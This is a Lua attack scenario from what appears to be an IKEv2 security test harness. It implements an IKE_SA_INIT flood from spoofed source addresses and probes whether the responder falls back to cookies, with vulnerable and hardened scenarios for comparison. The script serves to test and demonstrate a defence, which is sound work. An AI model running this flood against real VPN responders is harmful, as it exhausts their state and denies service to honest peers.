-- A flood of IKE_SA_INIT requests from addresses that are not the sender's. Each one makes the responder compute a Diffie-Hellman and keep
-- a half-open SA; nobody ever comes back for it. With cookies the responder keeps nothing until somebody proves to be where he says he is,
-- and who forges his address never sees the cookie.
attack = {
  id = "A11", name = "sa-init-flood",
  about = "Sends IKE_SA_INIT from forged addresses: each leaves a half-open SA behind, none goes on",
  position = "off-path",
  needs = "a network that lets forged source addresses out",
  source = "RFC 7296, 2.6; RFC 8019, 3",
  shows = {
    vulnerable = "cookies off: the responder answers every request with a full IKE_SA_INIT, and its table of half-open SAs fills up",
    hardened = "cookies on: after the first few it answers with a cookie alone, keeps nothing, and honest peers get in",
  },
  scenarios = { vulnerable = "sa-init-flood", hardened = "sa-init-flood-cookies" },
}

-- Parameters: target, count = 300, every = "10ms", wait = "1s". The proposal: aes256gcm16-prfsha256-x25519.
local target, count, sent = nil, nil, 0
local every, pair, own, mine

function on_start(params)
  target, count, every = params.target, tonumber(params.count or "300"), params.every or "10ms"
  assert(target, "parameter target: the responder's address")
  own = params.own or "203.0.113.66"
  pair = crypto.key_pair("x25519")    -- one is enough: it will never compute anything with it
  timer.after(params.wait or "1s", "flood")
end

local proposal = { number = 1, protocol = 1, spi = "", transforms = {
  { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } } }

local function request(spi_i)
  return ike.encode{ spi_i = spi_i, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0,
    payloads = { ike.sa(proposal), ike.ke(pair), ike.nonce(crypto.random(32)) } }
end

local function flood()
  if sent == 0 then mark("The flood begins: " .. count .. " requests from addresses that do not exist.") end
  sent = sent + 1
  inject{ src = "203.0.113." .. (1 + sent % 250), src_port = 500, dst = target, dst_port = 500, protocol = "IKE",
    note = "IKE_SA_INIT from an address that is not its own",
    payload = request(bytes.hex(crypto.random(8))) }
  timer.after(sent < count and every or "500ms", sent < count and "flood" or "probe")
end

-- Off the path it sees no answer to a forged address. How its victim fares it asks under its own: a cookie, or a full answer?
local function probe()
  mine = bytes.hex(crypto.random(8))
  inject{ src = own, src_port = 500, dst = target, dst_port = 500, protocol = "IKE", note = "one request under its own address, to see how things are",
    payload = request(mine) }
end

function on_timer(label)
  if label == "probe" then return probe() end
  flood()
end

on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
  if message.spi_i ~= mine then return end
  local cookie = notify_of(message, "COOKIE") ~= nil
  achieved("make the responder keep state for forged addresses", not cookie, cookie
    and "it asks for a cookie before it keeps anything: the flood left nothing behind"
    or "it answers anybody in full: " .. sent .. " forged requests, " .. sent .. " key exchanges and half-open SAs")
end)

function on_finish()
  if not mine then achieved("make the responder keep state for forged addresses", false, "the run was too short") end
end
